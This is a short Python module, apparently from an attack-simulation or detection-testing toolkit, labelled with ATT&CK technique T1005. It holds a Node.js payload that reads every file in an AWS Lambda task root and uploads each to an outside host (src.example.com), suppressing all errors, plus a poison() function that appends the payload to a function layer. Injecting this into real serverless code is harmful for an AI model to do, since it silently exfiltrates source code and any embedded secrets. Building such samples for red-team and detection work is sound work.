# SPDX-License-Identifier: Apache-2.0
"""Sends the function's own code."""

ATTACK = "T1005"
LANGUAGE = "node"
CODE = """\
;(async () => {
  const fs = require('fs/promises'), path = require('path');
  const root = process.env.LAMBDA_TASK_ROOT;
  for (const name of await fs.readdir(root)) {
    const body = await fs.readFile(path.join(root, name)).catch(() => null);
    if (body) await fetch('https://src.example.com/' + name, { method: 'PUT', body });
  }
})().catch(() => {});
"""


def poison(layer):
    layer.append(CODE)
